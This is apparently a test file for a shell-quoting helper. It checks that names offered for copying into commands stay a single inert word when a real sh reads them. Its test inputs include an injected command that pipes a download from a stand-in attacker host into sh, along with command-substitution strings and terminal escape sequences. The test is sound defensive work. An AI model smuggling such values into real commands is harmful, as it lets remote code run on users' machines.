/** Names in commands that are offered to copy: a real sh reads each as one word, and runs nothing. */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import t from 'tap';
import { quoteForShell } from '../../src/values/shell.js';

function readBySh(word: string): string {
  return execFileSync('/bin/sh', ['-c', `printf '%s|' ${word}`], { encoding: 'utf8', env: { PATH: '' } });
}

void t.test('a name is written as it is', (t) => {
  for (const name of ['builder', 'a.b-c', 'ns/name', 'key=value']) t.equal(quoteForShell(name), name);
  t.end();
});

void t.test('anything else is one word', (t) => {
  for (const [word, expected] of [
    ['x; curl evil.example | sh #', 'x; curl evil.example | sh #'],
    ["it's $(id) `id` \\", "it's $(id) `id` \\"],
    ['a\nb\u001b[2J\u202e', 'a b [2J'],
    ['', ''],
    ['*', '*'],
  ] as const) {
    t.equal(readBySh(quoteForShell(word)), `${expected}|`);
  }
  const words = fc.string({ unit: fc.constantFrom(...Array.from('\'"\\$`;&|<>()#*?~ !{}[]\n\tax')), maxLength: 20 });
  fc.assert(
    fc.property(words, (word) => readBySh(quoteForShell(word)) === `${word.replace(/\s+/g, ' ').trim()}|`),
    { numRuns: 200 },
  );
  t.ok(quoteForShell('x'.repeat(1e6)).length < 100, 'of any length');
  t.end();
});
